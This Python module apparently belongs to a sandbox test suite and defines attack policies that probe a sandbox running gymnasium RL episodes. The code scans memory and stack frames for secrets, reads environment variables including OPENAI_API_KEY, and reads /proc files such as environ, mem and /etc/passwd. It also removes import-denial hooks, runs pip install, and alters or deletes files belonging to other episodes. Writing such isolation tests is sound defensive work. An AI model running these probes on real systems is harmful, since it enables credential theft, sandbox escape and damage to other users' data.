"""Attacks on the sandbox's content: the environment's state and seeds, simulators, and traces of other episodes."""

from __future__ import annotations

from heredity.attacks.contract import Attack, policy


def _state(name: str, what: str, act: str) -> Attack:
    return Attack(name, "state", what, policy(act))


def _import(name: str, what: str, act: str) -> Attack:
    return Attack(name, "imports", what, policy(act))


_FRAMES = """
frame_ = sys._getframe()
while frame_ is not None:
    for key, value in {**frame_.f_globals, **frame_.f_locals}.items():
        say(frame_.f_code.co_name, key, repr(value)[:1500])
    frame_ = frame_.f_back
"""

_OBJECTS = """
import gc, re
pattern = re.compile("CANARY-[0-9a-f]{32}")
for thing in gc.get_objects():
    kind = str(type(thing))
    if "heredity" in kind or "Arena" in kind or "gymnasium.envs" in kind or "gymnasium.core" in kind:
        won("found", kind)
    try:
        found = pattern.findall(repr(thing)) if isinstance(thing, (dict, list, tuple)) else ()
    except BaseException:
        continue
    if found:
        say(found)
"""

_SCAN = """
import re
pattern = re.compile(b"CANARY" + b"-[0-9a-f]{32}")
libc = ctypes.CDLL(None)
scratch = os.open(os.path.join(os.environ["TMPDIR"], "memory"), os.O_CREAT | os.O_RDWR)
starts = {id(x) & ~0xFFFFFF for x in (object(), pattern, os, sys.modules, obs, self, b"x" * 100_000)}
starts |= {ctypes.cast(f, ctypes.c_void_p).value & ~0xFFFFFF for f in (libc.malloc, libc.getenv, libc.environ)}
libc.sbrk.restype = ctypes.c_long
starts.add(libc.sbrk(0) & ~0xFFFFFF)
seen = 0
for start in starts:
    for address in range(max(0, start - (32 << 20)), start + (32 << 20), 1 << 16):
        if call_quietly("pwrite64", scratch, address, 1 << 16, 0) > 0:
            data = os.pread(scratch, 1 << 16, 0)
            seen += len(data)
            for found in pattern.findall(data):
                say(found.decode())
say("looked through", seen, "bytes")
if not seen:
    raise RuntimeError("saw nothing")
"""

_QUIET_CALL = """
syscall = ctypes.CDLL(None).syscall
syscall.restype = ctypes.c_long
def call_quietly(name, *args):
    return syscall(*(ctypes.c_long(a) for a in (TARGET["calls"][name], *args)))
"""

_PROC = """
for pid in ("self", "1", "2", str(os.getppid()), str(TARGET["sibling_pid"]), str(TARGET["host_pid"]), "thread-self"):
    for name in ("environ", "mem", "maps", "cmdline", "status", "fd", "auxv", "stack", "root/etc/passwd"):
        path = f"/proc/{pid}/{name}"
        works(os.listdir if name == "fd" else read, path)
for name in ("kcore", "kallsyms", "kmsg", "iomem", "sys/kernel/random/boot_id", "keys", "net/tcp", "mounts", "cpuinfo", "self/mounts"):
    works(read, "/proc/" + name)
works(open, "/proc/self/oom_score_adj", "w")
works(open, "/proc/sysrq-trigger", "w")
works(read, "/sys/kernel/notes")
"""

_SEED = """
from kit import say
import numpy as np, random
seed = env_meta["policy_seed"]
say("meta", env_meta, obs_space.__dict__, action_space.__dict__, self.__dict__)
for n in range(64):
    say(int(np.random.SeedSequence(seed, spawn_key=(n,)).generate_state(1)[0]) & 0x7FFFFFFF)
    say(random.Random(seed + n).getrandbits(31), np.random.default_rng(seed + n).integers(2**31))
say(random.getstate()[1][:8], np.random.get_state()[1][:8], obs_space.np_random.bit_generator.state)
"""

_PATHS = """
import importlib, importlib.util
for folder in TARGET["packages"]:
    sys.path.insert(0, folder)
sys.meta_path[:] = [f for f in sys.meta_path if "Denied" not in type(f).__name__]
sys.path_importer_cache.clear()
importlib.invalidate_caches()
for name in ("heredity", "heredity.attacks.arena", "msgpack", "pydantic", "typer", "mujoco", "minigrid", "pip"):
    works(importlib.import_module, name)
for folder in TARGET["packages"]:
    for name in ("gymnasium/envs/classic_control/cartpole.py", "msgpack/__init__.py", "pydantic/__init__.py", "heredity/_core/errors.py"):
        path = os.path.join(folder, name)
        spec = importlib.util.spec_from_file_location("stolen", path)
        works(lambda: spec.loader.exec_module(importlib.util.module_from_spec(spec)))
        works(read, path)
"""

_GYMNASIUM = """
import gymnasium
works(lambda: gymnasium.make("CartPole-v1"))
sys.meta_path[:] = [f for f in sys.meta_path if "Denied" not in type(f).__name__]
folder = os.path.dirname(gymnasium.spaces.__file__)
gymnasium.__path__ = [os.path.dirname(folder)]
for name in [n for n in sys.modules if n.startswith("gymnasium.envs") or n.startswith("gymnasium.vector")]:
    del sys.modules[name]
import importlib
for name in ("gymnasium.envs.classic_control.cartpole", "gymnasium.envs.registration", "gymnasium.core", "gymnasium.envs"):
    works(importlib.import_module, name)
works(read, os.path.join(os.path.dirname(folder), "core.py"))
"""

_ZIP = """
import base64, io, zipfile, zipimport
path = os.path.join(os.environ["TMPDIR"], "bundle.zip")
with zipfile.ZipFile(path, "w") as bundle:
    bundle.writestr("carrier.py", "import heredity, gymnasium.envs.classic_control")
works(lambda: zipimport.zipimporter(path).load_module("carrier"))
for folder in TARGET["packages"]:
    works(lambda: zipimport.zipimporter(folder))
"""

_LIBRARIES = """
for path in TARGET["libraries"]:
    works(ctypes.CDLL, path)
works(ctypes.PyDLL, TARGET["libraries"][0] if TARGET["libraries"] else "/nowhere.so")
"""

_LEAVE = """
places = [os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp", os.path.dirname(__file__), TARGET["engine"], "."]
note = "left by an episode"
import builtins, numpy, random
if self.index == 0:
    for place in places:
        fails(lambda: open(os.path.join(place, "note.txt"), "w").write(note))
    builtins.note = numpy.note = random.note = os.environ["NOTE"] = note
    fails(ctypes.CDLL(None).setenv, b"NOTE", note.encode(), 1)
else:
    time.sleep(0.05)
    for place in places:
        if os.path.exists(os.path.join(place, "note.txt")):
            won("found the note in", place)
    if any(hasattr(m, "note") for m in (builtins, numpy, random)) or "NOTE" in os.environ:
        won("found the note in memory")
"""

_NEIGHBOURS = """
own = os.environ["TMPDIR"]
with open(os.path.join(own, "note.txt"), "w") as file:
    file.write("of episode")
time.sleep(0.3)
above = os.path.dirname(own)
works(os.listdir, above)
for slot in range(64):
    folder = os.path.join(above, str(slot))
    if folder != own:
        works(os.listdir, folder)
        works(read, os.path.join(folder, "note.txt"))
        works(open, os.path.join(folder, "note.txt"), "a")
        works(os.open, os.path.join(folder, "note.txt"), os.O_RDONLY | os.O_TRUNC)
        works(os.unlink, os.path.join(folder, "note.txt"))
"""

ATTACKS = (
    _state("frames", "walks up the frames of the harness and prints every variable", _FRAMES),
    _state("objects", "searches all objects for an environment or a secret", _OBJECTS),
    Attack(
        "memory-scan",
        "state",
        "scans its memory, beyond Python's objects, for secrets",
        policy(_SCAN, top=_QUIET_CALL),
        limits={"act_s": 15.0},
    ),
    _state(
        "environment-variables",
        "reads the variables of the engine",
        "say(os.environ)\nlibc = ctypes.CDLL(None)\nlibc.getenv.restype = ctypes.c_char_p\n"
        "for name in (b'HEREDITY_CANARY', b'HOME', b'PATH', b'OPENAI_API_KEY'):\n    say(name, libc.getenv(name))\n"
        "block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\nfor n in range(100):\n    if not block[n]:\n        break\n    say(block[n])",
    ),
    _state("process-files", "reads /proc for processes and the kernel", _PROC),
    Attack("guess-seed", "state", "derives the episode's seed from all its inputs", policy(init=_SEED)),
    _import(
        "import-heredity",
        "imports heredity and simulators by their names",
        "import importlib\nfor name in ('heredity', 'heredity.engine', 'mujoco', 'Box2D', 'minigrid', 'highway_env', 'gymnasium_robotics', 'pygame', 'msgpack', 'torch', 'pip'):\n    works(importlib.import_module, name)",
    ),
    _import("import-by-path", "imports from the folders where packages are installed", _PATHS),
    _import("import-simulator", "builds an environment with the gymnasium that its spaces come from", _GYMNASIUM),
    _import("import-zip", "imports from archives", _ZIP),
    _import("load-libraries", "loads shared libraries of packages that it may not import", _LIBRARIES),
    _import(
        "install",
        "installs packages",
        "import runpy\nsys.argv = ['pip', 'install', 'heredity']\nworks(runpy.run_module, 'pip', None, '__main__')\nworks(runpy.run_module, 'ensurepip', None, '__main__')",
    ),
    Attack(
        "leave-a-note",
        "other episodes",
        "leaves notes for later episodes, in files, memory and variables",
        policy(_LEAVE),
        rounds=(1, 8),
        limits={"episode_s": 10.0},
    ),
    Attack(
        "neighbours",
        "other episodes",
        "reads, changes and deletes files of concurrent episodes",
        policy(_NEIGHBOURS),
        rounds=(8,),
        limits={"episode_s": 20.0},
    ),
)
